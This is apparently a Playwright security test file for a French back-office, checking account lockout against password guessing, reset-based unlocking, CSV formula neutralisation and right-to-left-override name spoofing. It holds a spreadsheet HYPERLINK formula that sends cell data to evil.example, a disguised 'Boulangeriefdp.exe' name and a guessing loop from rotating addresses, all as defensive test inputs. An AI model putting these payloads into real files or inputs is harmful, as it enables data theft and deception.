import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { AdminAccounts } from '@coseso/backend/auth/admin-accounts';
import { loadConfig } from '@coseso/backend/config/app-config';
import { orderIn } from '@coseso/domain/orders/testing/order-test-kit';
import { PostgresEventStore } from '@coseso/event-store/postgres-adapter';
import { testDatabaseUrl } from '@coseso/database/testing/postgres-test-schema';
import { toNewEvent } from '@coseso/projections/testing/order-fixtures';
import { type Browser, type Page } from '@playwright/test';
import { type AppServer } from '../support/app-server.js';
import { eventually } from '../support/eventually.js';
import {
  ADMIN,
  callApi,
  orderProjected,
  paidOrderOfNewClient,
  signInToBackOffice,
} from '../support/journey.js';
import { expect, sharedPage, test } from '../support/fixtures.js';

// Protections an attacker could turn against their owner, tried through the browser as the team
// meets them: guesses that lock the team out, the back-office's way back in when they do, a formula
// typed as a company name in the accountant's CSV, a name that reads backwards in the back-office.

// Serial: the second test signs in the account the first one saw locked.
test.describe.configure({ mode: 'serial' });
// The production figures: 10 failed attempts lock an account (the journeys' apps run at 100 times).
test.use({ appEnv: { RATE_LIMIT_MULTIPLIER: '1' } });

const MEMBER = {
  email: 'camille.durand@coseso.test',
  password: 'un-secret-de-camille',
  name: 'Camille Durand',
};
const NEW_PASSWORD = 'un-nouveau-secret-de-camille';
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Facture")';
// « Boulangerie » then a right-to-left override: the rest reads backwards, « Boulangerieexe.pdf ».
const BACKWARDS = 'Boulangerie\u202Efdp.exe';

let server: AppServer;
let browser: Browser;

test.beforeAll(async ({ appOfFile, browser: workerBrowser }, testInfo) => {
  server = await appOfFile(testInfo.file);
  browser = workerBrowser;
  const config = loadConfig({ DATABASE_URL: testDatabaseUrl(), DATABASE_SCHEMA: server.schema });
  await new AdminAccounts(server.db, config).create(MEMBER.email, MEMBER.password, 'admin', MEMBER.name);
});

let addresses = 0;
/** Each guess from an address of its own: the per-address limits never stop the attacker here. */
const fresh = () => `2001:db8:41:${(++addresses).toString(16)}::1`;

const mailbox = async () => {
  const { body } = await callApi<{ token: string }>(server, 'POST', '/api/admin/login', ADMIN);
  return (
    await callApi<{ emails: { to: string; template: string; text: string }[] }>(
      server,
      'GET',
      '/api/test/mailbox?limit=100',
      undefined,
      { token: body.token },
    )
  ).body.emails;
};

const pageFrom = (address: string, width = 1280) =>
  sharedPage(browser, {
    extraHTTPHeaders: { 'x-forwarded-for': address },
    viewport: { width, height: 900 },
  });

/** The text a person reads on the page: no bidi nor control character left in it. */
const bodyText = (page: Page) => page.locator('body').innerText();

test.describe('sign-in guesses cannot lock the team out', () => {
  let owner: Page;

  test("an attacker's failed attempts lock unknown browsers, not the one the team member signed in from", async () => {
    owner = await pageFrom(fresh());
    await signInToBackOffice(owner, server, MEMBER);
    // The header names the account; its address is nowhere on the screen.
    await expect(owner.getByRole('banner').getByText(MEMBER.name, { exact: true })).toBeVisible();
    await expect(owner.getByRole('main')).toContainText(
      `Connecté en tant que ${MEMBER.name} · Administrateur`,
    );
    await expect(owner.locator('body')).not.toContainText(MEMBER.email);

    // Ten wrong passwords for the member's address, each from another address.
    for (let i = 0; i < 10; i++) {
      const guess = await fetch(`${server.url}/api/admin/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', origin: server.url, 'x-forwarded-for': fresh() },
        body: JSON.stringify({ email: MEMBER.email, password: `mauvais-${i}` }),
      });
      expect(guess.status).toBe(401);
    }

    // From a browser that never signed in, even the right password is refused, and the page says
    // what to do: wait, « Mot de passe oublié ? », or another admin's unlock.
    const stranger = await pageFrom(fresh());
    await stranger.goto(`${server.url}/admin`);
    await stranger.getByLabel('Email').fill(MEMBER.email);
    await stranger.getByLabel('Mot de passe', { exact: true }).fill(MEMBER.password);
    await stranger.getByRole('button', { name: 'Se connecter', exact: true }).click();
    const locked = stranger.getByRole('alert').filter({ hasText: 'Compte bloqué pour le moment' });
    await expect(locked).toBeVisible();
    await expect(locked).toContainText('Trop de tentatives de connexion à ce compte. Réessayez dans');
    await expect(locked).toContainText('« Mot de passe oublié ? »');
    await expect(locked).toContainText(
      'demandez à un autre administrateur de débloquer votre compte depuis la page « Équipe » du back-office',
    );
    await expect(stranger.getByRole('link', { name: 'Mot de passe oublié ?' })).toBeVisible();
    await stranger.context().close();

    // The member's own browser carries its device cookie: signed out, then in again, untouched.
    await owner.getByRole('button', { name: 'Déconnexion', exact: true }).click();
    await signInToBackOffice(owner, server, MEMBER);
    await expect(owner.getByRole('banner').getByText(MEMBER.name, { exact: true })).toBeVisible();
    await owner.context().close();
  });

  test('the locked member gets back in from a new browser through « Mot de passe oublié ? » and the emailed link', async () => {
    for (const width of [390, 1280]) {
      const page = await pageFrom(fresh(), width);
      await page.goto(`${server.url}/admin`);
      await page.getByRole('link', { name: 'Mot de passe oublié ?' }).click();
      await expect(page).toHaveURL(/\/admin\/forgot-password$/);
      await expect(page.getByRole('heading', { name: 'Mot de passe oublié', level: 1 })).toBeVisible();
      await expect(page.getByText('Il débloque aussi votre compte.')).toBeVisible();
      if (width === 390) {
        // Nothing wider than the phone.
        expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(390);
        await page.getByRole('button', { name: 'Retour à la connexion' }).click();
        await expect(page.getByRole('form', { name: 'Connexion au back-office' })).toBeVisible();
        await page.context().close();
        continue;
      }
      const asked = new Date();
      await page.getByLabel('Email').fill(MEMBER.email);
      await page.getByRole('button', { name: 'Recevoir un lien par email', exact: true }).click();
      await expect(page.getByRole('status')).toContainText(
        `Si un compte existe pour ${MEMBER.email}, un lien vient d’y être envoyé.`,
      );

      let link = '';
      await eventually(async () => {
        const mail = (await mailbox()).find(
          (e) => e.to === MEMBER.email && e.template === 'password-reset' && e.text.includes('/admin/'),
        );
        link = /(http\S+\/admin\/set-password\?token=[A-Za-z0-9_%-]+)/.exec(mail?.text ?? '')?.[1] ?? '';
        return link !== '';
      }, `the reset email reaches ${MEMBER.email} (asked at ${asked.toISOString()})`);

      await page.goto(link);
      await expect(page.getByRole('heading', { name: 'Choisissez un nouveau mot de passe' })).toBeVisible();
      await expect(page.getByText('Au moins 10 caractères.')).toBeVisible();
      // A client's 8 characters are not enough for the back-office.
      await page.getByLabel('Nouveau mot de passe').fill('neuf-cars');
      await page.getByLabel('Confirmer le mot de passe').fill('neuf-cars');
      await page.getByRole('button', { name: 'Enregistrer mon mot de passe', exact: true }).click();
      await expect(page.getByText('Le mot de passe doit contenir au moins 10 caractères')).toBeVisible();
      await page.getByLabel('Nouveau mot de passe').fill(NEW_PASSWORD);
      await page.getByLabel('Confirmer le mot de passe').fill(NEW_PASSWORD);
      await page.getByRole('button', { name: 'Enregistrer mon mot de passe', exact: true }).click();

      // Signed in to the back-office, by name; the lock is over.
      await expect(page).toHaveURL(/\/admin$/);
      await expect(page.getByRole('banner').getByText(MEMBER.name, { exact: true })).toBeVisible();
      await expect(page.getByRole('banner')).not.toContainText(MEMBER.email);

      // The link served once.
      await page.goto(link);
      await expect(page.getByRole('heading', { name: 'Lien invalide ou expiré' })).toBeVisible();
      await expect(page.getByRole('alert')).toContainText('Ce lien n’est plus valide.');
      await page.getByRole('link', { name: 'Demander un nouveau lien' }).click();
      await expect(page).toHaveURL(/\/admin\/forgot-password$/);
      await page.context().close();
    }

    // Any browser signs in with the new password: the lock ended with the reset.
    const elsewhere = await pageFrom(fresh());
    await signInToBackOffice(elsewhere, server, { email: MEMBER.email, password: NEW_PASSWORD });
    await elsewhere.context().close();
  });
});

test("a formula typed as a company name arrives neutralised in the accountant's CSV", async ({
  adminPage: page,
}) => {
  test.setTimeout(240_000);
  const { orderId, adminToken } = await paidOrderOfNewClient(server, {
    companyName: FORMULA,
    contactEmail: 'formule@csv.example',
  });
  // The deposit's invoice, issued by the worker a moment after the payment.
  await eventually(async () => {
    const csv = await fetch(`${server.url}/api/admin/invoices/export.csv`, {
      headers: { authorization: `Bearer ${adminToken}` },
    });
    return (await csv.text()).includes('HYPERLINK');
  }, `the invoice of ${orderId} is in the register`);

  await page.goto(`${server.url}/admin/invoices`);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Exporter en CSV', exact: true }).click(),
  ]);
  const lines = (await readFile((await download.path())!, 'utf8')).split('\r\n');
  const line = lines.find((l) => l.includes('HYPERLINK'));
  expect(line).toBeDefined();
  // Quoted, and prefixed: the spreadsheet reads text, not a formula.
  expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1;""Facture"")"`);
  // No cell of the file starts a formula.
  for (const cells of lines.map((l) => l.split(';')))
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@]/);
});

test('a name that reads backwards shows inert in the back-office, and the wizard refuses a new one', async ({
  adminPage: page,
}) => {
  // Stored before the wizard refused them (the decider refuses it now): an order's history as the
  // write side appended it then, the name put back into its events.
  const orderId = randomUUID();
  const typed = orderIn('brief_pending', {
    orderId,
    orderNumber: 41_041,
    form: { companyName: 'Boulangerie BIDI' },
  });
  const history = JSON.parse(
    JSON.stringify(typed.history).replaceAll('Boulangerie BIDI', BACKWARDS),
  ) as typeof typed.history;
  const store = await PostgresEventStore.open({
    pool: server.db,
    schema: server.schema,
    connectionString: testDatabaseUrl(),
  });
  try {
    await store.appendToStream(
      `order-${orderId}`,
      history.map((event, i) => toNewEvent(event, i)),
      { expectedRevision: 'no_stream' },
    );
  } finally {
    await store.close();
  }
  await orderProjected(server, orderId);

  await page.goto(`${server.url}/admin?search=Boulangerie`);
  const card = page.getByRole('button', { name: /Boulangeriefdp\.exe/ }).first();
  await expect(card).toBeVisible();
  expect(await bodyText(page)).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200E\u200F]/);
  await card.click();
  await expect(page.getByRole('heading', { name: 'Boulangeriefdp.exe' })).toBeVisible();
  expect(await bodyText(page)).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200E\u200F]/);

  await page.goto(`${server.url}/admin/orders/${orderId}/history`);
  await expect(page.getByText('Boulangeriefdp.exe').first()).toBeVisible();
  expect(await bodyText(page)).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200E\u200F]/);

  // A new one is refused as it is typed, in French.
  const created = await fetch(`${server.url}/api/create-order`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin: server.url },
    body: JSON.stringify({ companyName: BACKWARDS }),
  });
  expect(created.status).toBe(400);
  expect(await created.text()).toContain('caractères invisibles');
});
